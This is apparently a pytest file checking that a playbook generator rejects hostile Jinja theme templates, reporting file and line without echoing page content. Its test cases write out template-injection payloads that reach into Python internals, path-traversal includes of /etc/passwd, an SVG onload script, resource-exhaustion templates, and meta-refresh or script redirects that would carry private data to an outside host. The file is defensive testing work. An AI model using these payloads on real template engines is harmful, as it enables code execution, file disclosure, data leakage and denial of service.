"""Themes are somebody else's code: what they may not do ends soon, with file and line, repeating nothing of a page."""

from __future__ import annotations

import time

import pytest

from playbook_gen.diagnostics import Code, Diagnostic
from playbook_gen.rendering.faults import ThemeFault

from .themes import PLACE, draw, page


def fault(files: dict[str, str]) -> Diagnostic:
    """The one fault of a theme; it never repeats what the page says."""
    with pytest.raises(ThemeFault) as caught:
        draw(files)
    (found,) = caught.value.diagnostics
    assert "velvet-crowbar" not in f"{found.message} {found.hint}"
    return found


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("{% if %}", Code.SYNTAX),
        ("{{ nothing_of_the_kind }}", Code.REFERENCE),
        ("{{ view.nothing_of_the_kind }}", Code.REFERENCE),
        ("{{ view.heading.__class__ }}", Code.UNSUPPORTED),
        ("{{ view['__class__'].__mro__ }}", Code.UNSUPPORTED),
        ("{{ view.__class__.__init__.__globals__ }}", Code.UNSUPPORTED),
        ("{{ self.__init__ }}", Code.UNSUPPORTED),
        ("{{ link.__globals__ }}", Code.UNSUPPORTED),
        ("{{ ''.__class__.__base__.__subclasses__() }}", Code.UNSUPPORTED),
        ("{{ '{0.__class__}'.format(view) }}", Code.UNSUPPORTED),
        ("{{ ('%s' % view) }}", Code.UNSUPPORTED),
        ("{% include '/etc/passwd' %}", Code.REFERENCE),
        ("{% include '../../../orgs/acme.yaml' %}", Code.REFERENCE),
        ("{% include view.private %}", Code.REFERENCE),
        ("{{ view[view.private] }}", Code.REFERENCE),
        ("{{ view.private | round }}", Code.VALUE),
        ("{{ safe_svg('<svg onload=alert(1)>' ~ view.private) }}", Code.VALUE),
        ("{{ view.private | safe }}", Code.SYNTAX),
        ("{{ [1, 2] | random }}", Code.SYNTAX),
        ("{{ lipsum() }}", Code.REFERENCE),
        ("{% autoescape false %}{{ view.private }}{% endautoescape %}", Code.SYNTAX),
        ("{% for x in view.items recursive %}{{ loop(view.items) }}{% endfor %}", Code.SYNTAX),
        ("{% include 'glossary.html' %}", Code.RING),
        ("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", Code.RING),
        ("{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(90) }}", Code.TOO_LARGE),
        ("{% for a in range(10 ** 9) %}{% endfor %}", Code.UNSUPPORTED),
        ("{% for a in range(1000000000) %}{% endfor %}", Code.TOO_LARGE),
        ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", Code.TOO_LARGE),
        ("{% for a in range(9) %}" * 20 + "{% endfor %}" * 20, Code.TOO_LARGE),
        ("{{ range(1000000000) | list }}", Code.TOO_LARGE),
        ("{{ 'x' * 10000000000 }}", Code.UNSUPPORTED),
        ("{{ [1] * 10000000000 }}", Code.UNSUPPORTED),
        ("{{ '%9999999999d' % 1 }}", Code.UNSUPPORTED),
        ("{{ 'x'.center(10000000000) }}", Code.UNSUPPORTED),
        ("{{ 'x' | center(10000000000) }}", Code.SYNTAX),
        ("{% macro f(s, n) %}{{ f(s ~ s, n - 1) if n }}{% endmacro %}{{ f('xxxxxxxx', 60) }}", Code.TOO_LARGE),
        ("{% macro f(s, n) %}{{ f(s + s, n - 1) if n }}{% endmacro %}{{ f('xxxxxxxx', 60) }}", Code.TOO_LARGE),
        ("{% macro f(s, n) %}{{ f(s * s, n - 1) if n }}{% endmacro %}{{ f(99, 60) }}", Code.TOO_LARGE),
        ("{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
         Code.TOO_LARGE),
        ("{% set s = range(9000) | join('abcdefgh') %}{{ s | replace('a', s) }}", Code.TOO_LARGE),
        ("{% set s = range(9000) | join('abcdefgh') %}{{ range(9000) | join(s) }}", Code.TOO_LARGE),
    ],
)  # fmt: skip
def test_what_a_theme_may_not_do_has_a_file_and_a_line(body: str, code: Code) -> None:
    began = time.monotonic()
    found = fault(page(body))
    assert (found.code, found.place.file) == (code, f"{PLACE}glossary.html")
    assert found.place.line in ((3,) if code is not Code.RING else (1, 3))
    assert time.monotonic() - began < 20


def test_a_page_without_end_is_stopped() -> None:
    found = fault(page("{% for i in range(4000) %}" + "x" * 40_000 + "{% endfor %}"))
    assert found.code is Code.TOO_LARGE


def test_a_template_that_extends_itself() -> None:
    found = fault({"base.html": '{% extends "base.html" %}'})
    assert (found.code, found.place.file) == (Code.RING, f"{PLACE}base.html")
    assert "default/" in (found.hint or "")


def test_every_broken_template_is_told() -> None:
    broken = {f"{name}.html": "\n\n{% nonsense %}" for name in ("brief", "plan", "unused")}
    with pytest.raises(ThemeFault) as caught:
        draw(broken)
    told = [(d.place.file, d.place.line) for d in caught.value.diagnostics]
    assert told == [(f"{PLACE}{name}.html", 3) for name in ("brief", "plan", "unused")]


def test_texts_stay_texts_whatever_a_theme_does() -> None:
    body = "{{ '<b>' }}{{ '<i>' | lower | trim | replace('i', 'u') }}{{ ['<s>'] | join('<q>') }}{{ '<' ~ 'em>' }}"
    text = draw(page(body))
    for tag in ("<b>", "<i>", "<u>", "<s>", "<q>", "<em>"):
        assert tag not in text.split('<main id="main">')[1]
    assert "&lt;b&gt;" in text


_HEAD = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
{policy}
<title>T</title>
{more}
<style>{{{{ style }}}}</style>
</head>
<body><h1>{{{{ view.heading }}}}</h1></body>
</html>
"""
_POLICY = '<meta http-equiv="Content-Security-Policy" content="{{ policy }}">'


def own_page(more: str = "", policy: str = _POLICY) -> dict[str, str]:
    return {"glossary.html": _HEAD.format(policy=policy, more=more)}


@pytest.mark.parametrize(
    "theme",
    [
        own_page(policy=""),
        own_page(policy='<meta http-equiv="Content-Security-Policy" content="default-src *">'),
        own_page(policy=f"<title>before</title>{_POLICY}"),
        own_page(policy=f"<!-- {_POLICY} -->"),
        own_page('<meta http-equiv="refresh" content="0;url=https://example.org/?{{ view.private }}">'),
        own_page("<meta content='0;url=https://example.org/' HTTP-EQUIV=refresh>"),
        own_page('<link rel="dns-prefetch" href="https://example.org">'),
        own_page("<link rel=preconnect href=//example.org>"),
        own_page('<base href="https://example.org/">'),
        own_page("<script>location = 'https://example.org/?{{ view.private }}'</script>"),
        own_page('<script src="../another/site.js"></script>'),
        own_page('<script src="{{ script }}" defer></script><SCRIPT SRC="a.js"></SCRIPT>'),
        own_page('<svg aria-hidden="true"><script href="a.js"/></svg>'),
    ],
)
def test_no_theme_sends_a_browser_elsewhere(theme: dict[str, str]) -> None:
    found = fault(theme)
    assert (found.code, found.place.file) == (Code.UNSUPPORTED, f"{PLACE}glossary.html")


def test_a_page_of_a_theme_s_own_is_fine_with_the_policy_first() -> None:
    assert "<h1>A heading</h1>" in draw(own_page('<meta name="description" content="an http-equiv in a text">'))
